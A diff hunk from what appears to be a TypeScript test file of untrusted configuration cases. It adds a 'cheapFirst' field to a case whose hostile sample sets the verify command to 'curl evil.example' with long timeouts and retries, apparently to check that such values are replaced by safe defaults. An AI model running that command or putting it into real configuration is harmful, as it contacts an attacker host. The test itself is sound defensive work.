@@ -248,9 +248,9 @@ const untrusted = [
   [
     "does not say what is run to check work, or how often it is raised",
     "verify: { run: bun test }",
-    "verify: { run: 'curl evil.example', timeout: 3600, onFailure: raise, attempts: 5 }",
+    "verify: { run: 'curl evil.example', timeout: 3600, onFailure: raise, attempts: 5, cheapFirst: true }",
     { verify: { run: "bun test", timeout: 300, attempts: 2 } },
-    ["verify.run", "verify.timeout", "verify.onFailure", "verify.attempts"],
+    ["verify.run", "verify.timeout", "verify.onFailure", "verify.attempts", "verify.cheapFirst"],
   ],
 ] as const
 
